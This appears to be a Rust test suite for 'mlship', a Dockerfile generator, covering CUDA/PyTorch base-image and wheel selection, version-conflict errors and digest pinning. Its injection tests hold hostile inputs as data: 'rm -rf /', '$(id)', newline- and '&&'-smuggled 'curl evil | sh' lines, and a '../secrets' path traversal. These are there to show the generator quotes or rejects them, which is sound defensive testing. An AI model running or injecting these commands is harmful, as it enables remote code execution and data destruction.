//! Dockerfiles: the CUDA matrix picks bases and wheel indexes, conflicts name what would
//! work, and hostile strings either arrive quoted or are refused with a located error.

#![allow(
    clippy::disallowed_methods,
    clippy::print_stdout,
    clippy::print_stderr,
    reason = "tests and benches set up fixtures on disk and report what they measured"
)]

use mlship::project::MemProject;

fn spec(image: &str) -> String {
    format!(
        "apiVersion: mlship/v1\nproject: demo\nregistry: ghcr.io/acme/demo\ntag: \"1.0.0\"\nimages:\n  app:\n{image}\nservices:\n  api: {{image: app, port: 8080}}\n"
    )
}

fn build(image: &str) -> mlship::Compiled {
    let files = [("requirements.txt", "fastapi==0.115.6\n"), ("src/app.py", "")];
    let project = MemProject(
        files
            .iter()
            .map(|(k, v)| ((*k).to_string(), v.as_bytes().to_vec()))
            .collect(),
    );
    mlship::compile("mlship.yaml", spec(image).as_bytes(), &project)
}

fn dockerfile(image: &str) -> String {
    let c = build(image);
    let out = c.output.unwrap_or_else(|| panic!("{:?}", c.diagnostics));
    String::from_utf8(out.files["images/app/Dockerfile"].clone()).unwrap()
}

fn error(image: &str) -> String {
    let c = build(image);
    assert!(c.output.is_none(), "expected an error for {image}");
    c.diagnostics
        .iter()
        .map(|d| mlship::diag::render(d, &c.file, false))
        .collect()
}

#[test]
fn cuda_matrix_picks_base_images_and_wheel_indexes() {
    let gpu = dockerfile("    stack: pytorch\n    framework: \"2.6.0\"\n    cuda: \"12.6\"");
    assert!(
        gpu.contains("FROM nvidia/cuda:12.6.3-cudnn-devel-ubuntu22.04 AS builder"),
        "{gpu}"
    );
    assert!(
        gpu.contains("FROM nvidia/cuda:12.6.3-cudnn-runtime-ubuntu22.04 AS runtime"),
        "{gpu}"
    );
    assert!(
        gpu.contains("--index-url https://download.pytorch.org/whl/cu126 'torch==2.6.0'"),
        "{gpu}"
    );
    assert!(gpu.contains("COPY --from=builder /opt/python /opt/python"), "{gpu}");
    // The devel image is only in the builder stage.
    assert_eq!(gpu.matches("devel").count(), 1, "{gpu}");

    let cpu = dockerfile("    stack: pytorch\n    python: \"3.12\"");
    assert!(cpu.contains("FROM python:3.12.8-slim-bookworm AS runtime"), "{cpu}");
    assert!(
        cpu.contains("https://download.pytorch.org/whl/cpu"),
        "CPU images get CPU wheels: {cpu}"
    );
    assert!(!cpu.contains("nvidia"), "{cpu}");

    let tf = dockerfile("    stack: tensorflow\n    cuda: \"12.5\"");
    assert!(tf.contains("'tensorflow[and-cuda]==2.18.0'"), "{tf}");
}

#[test]
fn a_framework_version_outside_the_matrix_builds_with_a_warning_naming_what_is_unverified() {
    let image = "    stack: pytorch\n    python: \"3.11\"\n    framework: \"2.1.0\"\n    cuda: \"12.1\"";
    let c = build(image);
    let out = c.output.as_ref().unwrap_or_else(|| panic!("{:?}", c.diagnostics));
    let gpu = String::from_utf8(out.files["images/app/Dockerfile"].clone()).unwrap();
    // Installed as the newest matrix release with CUDA 12.1 (torch 2.5.1) is, at 2.1.0.
    assert!(
        gpu.contains("--index-url https://download.pytorch.org/whl/cu121 'torch==2.1.0'"),
        "{gpu}"
    );
    assert!(
        gpu.contains("FROM nvidia/cuda:12.1.1-cudnn8-devel-ubuntu22.04 AS builder"),
        "{gpu}"
    );
    let warnings: Vec<String> = c
        .diagnostics
        .iter()
        .map(|d| mlship::diag::render(d, &c.file, false))
        .collect();
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(
        warnings[0].starts_with("warning[E035]: torch 2.1.0 is not in the stdlib matrix: its wheels for Python 3.11 and CUDA 12.1 are not verified"),
        "{warnings:?}"
    );
    assert!(
        warnings[0].contains("mlship.yaml:9:16"),
        "located at the version: {warnings:?}"
    );
    let cpu = dockerfile("    stack: xgboost\n    framework: \"1.7.6\"");
    assert!(cpu.contains("'xgboost==1.7.6'"), "{cpu}");
}

#[test]
fn base_images_can_be_pinned_by_digest() {
    let d = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let gpu = dockerfile(&format!(
        "    stack: pytorch\n    cuda: \"12.4\"\n    base_digest: \"{d}\"\n    builder_digest: \"{d}\""
    ));
    assert!(
        gpu.contains(&format!(
            "FROM nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04@{d} AS builder"
        )),
        "{gpu}"
    );
    assert!(
        gpu.contains(&format!(
            "FROM nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04@{d} AS runtime"
        )),
        "{gpu}"
    );
    let e = error("    stack: python\n    base_digest: latest");
    assert!(e.contains("`latest` is not an image digest"), "{e}");
}

#[test]
fn cuda_conflicts_list_what_would_work() {
    let e = error("    stack: pytorch\n    cuda: \"12.6\"");
    assert!(
        e.contains("error[E035]: CUDA 12.6 is not available for torch 2.5.1"),
        "{e}"
    );
    assert!(
        e.contains("torch 2.5.1 supports CUDA 11.8, 12.1, 12.4; CUDA 12.6 works with torch 2.6.0, torch 2.7.1, torch 2.8.0, torch 2.9.1, torch 2.10.0"),
        "{e}"
    );
    let e = error("    stack: tensorflow\n    python: \"3.13\"");
    assert!(e.contains("stack `tensorflow` does not support Python 3.13"), "{e}");
    // A release outside the matrix is refused unless the image pins it as a version.
    let e = error("    stack: pytorch\n    framework: \"2.1\\n\"");
    assert!(
        e.contains("is not in the stdlib matrix") && e.contains("2.5.1, 2.6.0, 2.7.1, 2.8.0, 2.9.1, 2.10.0"),
        "{e}"
    );
    let e = error("    stack: pytorch\n    framework: \"2.1.0\"\n    cuda: \"12.5\"");
    assert!(
        e.contains("torch 2.1.0 is not in the stdlib matrix")
            && e.contains("no torch release of the matrix has CUDA 12.5"),
        "{e}"
    );
    let e = error("    stack: pytroch");
    assert!(
        e.contains("unknown stack `pytroch`") && e.contains("did you mean `pytorch`?"),
        "{e}"
    );
}

#[test]
fn hostile_strings_are_quoted_faithfully() {
    let d = dockerfile(
        "    stack: python\n    env:\n      GREETING: 'say \"hi\" $(id) `id` \\ done'\n    command: [sh, -c, 'echo \"$HOME\"; rm -rf /']",
    );
    assert!(d.contains(r#"GREETING="say \"hi\" \$(id) `id` \\ done""#), "{d}");
    assert!(d.contains(r#"CMD ["sh","-c","echo \"$HOME\"; rm -rf /"]"#), "{d}");
    // No spec string can open a new line: every instruction line starts as the template wrote it.
    for line in d.lines() {
        let first = line.split_whitespace().next().unwrap_or("");
        let known = [
            "#",
            "FROM",
            "COPY",
            "ENV",
            "RUN",
            "WORKDIR",
            "USER",
            "EXPOSE",
            "HEALTHCHECK",
            "LABEL",
            "CMD",
            "&&",
            "uv",
            "PATH=/opt/venv/bin:$PATH",
            "PYTHONUNBUFFERED=1",
            "PYTHONDONTWRITEBYTECODE=1",
            "GREETING=\"say",
            "dev.mlship.stack=\"python\"",
            "dev.mlship.python=\"3.11\"",
            "org.opencontainers.image.description=\"Plain",
            "--mount=type=secret,id=netrc,target=/root/.netrc,required=false",
        ];
        assert!(
            first.is_empty() || known.iter().any(|k| first.starts_with(k)),
            "unexpected line start: {line}"
        );
    }
}

#[test]
fn injection_attempts_are_located_errors() {
    let e = error("    stack: python\n    env:\n      X: \"a\\nRUN curl evil | sh\"");
    assert!(
        e.contains("error[E013]: the value contains a newline") && e.contains("mlship.yaml:9:10"),
        "{e}"
    );
    let e = error("    stack: python\n    system_packages: [\"libgomp1 && curl evil | sh\"]");
    assert!(e.contains("is not a Debian package name"), "{e}");
    let e = error("    stack: python\n    copy: [\"src/\\\" /etc\"]");
    assert!(e.contains("error[E032]"), "{e}");
    let e = error("    stack: python\n    copy: [../secrets]");
    assert!(e.contains("leaves the project folder"), "{e}");
    let e = error("    stack: python\n    copy: [src/, data/]");
    assert!(
        e.contains("error[E040]: `data/` does not exist") && e.contains("mlship.yaml:8:18"),
        "{e}"
    );
    let e = error("    stack: python\n    index_url: https://user:hunter2@pypi.example.com/simple");
    assert!(e.contains("error[E030]: `index_url` carries a credential"), "{e}");
    let e = error("    stack: python\n    env:\n      X: \"a\\u2028b\"");
    assert!(e.contains("the value contains a newline"), "{e}");
}

#[test]
fn private_index_uses_a_build_secret_never_an_arg() {
    let d = dockerfile(
        "    stack: python\n    requirements: requirements.txt\n    index_url: https://pypi.example.com/simple",
    );
    assert!(
        d.contains("--mount=type=secret,id=netrc,target=/root/.netrc,required=false"),
        "{d}"
    );
    assert!(d.contains("--extra-index-url 'https://pypi.example.com/simple'"), "{d}");
    assert!(!d.contains("ARG "), "{d}");
}
